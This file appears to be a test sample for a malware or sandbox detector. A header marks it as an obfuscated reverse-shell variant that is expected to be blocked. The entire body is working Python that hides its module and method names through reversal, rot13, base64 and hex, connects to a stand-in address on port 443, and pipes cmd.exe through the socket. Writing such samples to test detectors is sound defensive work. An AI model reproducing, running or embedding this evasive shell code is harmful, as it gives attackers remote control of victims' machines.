# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/relay_threads.py technique: encode+getattr
socket = __import__('tekcos'[::-1])
subprocess = __import__(__import__('codecs').decode('fhocebprff', 'rot13'))
threading = __import__(''.join(['t', 'h', 'r', 'e', 'a', 'd', 'i', 'n', 'g']))
s = getattr(socket, __import__('base64').b64decode('c29ja2V0').decode())(socket.AF_INET, socket.SOCK_STREAM)
getattr(s, ''.join(map(chr, [99, 111, 110, 110, 101, 99, 116])))((getattr(bytes, bytes.fromhex('66726f6d686578').decode())('3230332e302e3131332e35').decode(), 443))
proc = getattr(subprocess, 'nepoP'[::-1])([''.join(map(chr, [99, 109, 100, 46, 101, 120, 101]))], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)

def to_process():
    while True:
        data = getattr(s, __import__('codecs').decode('erpi', 'rot13'))(1024)
        proc.stdin.write(data)
        proc.stdin.flush()

def to_socket():
    while True:
        getattr(s, ''.join(['s', 'e', 'n', 'd']))(proc.stdout.read(1))
getattr(threading, __import__('base64').b64decode('VGhyZWFk').decode())(target=to_process, daemon=True).start()
getattr(threading, bytes.fromhex('546872656164').decode())(target=to_socket, daemon=True).start()
getattr(proc, ''.join(map(chr, [119, 97, 105, 116])))()
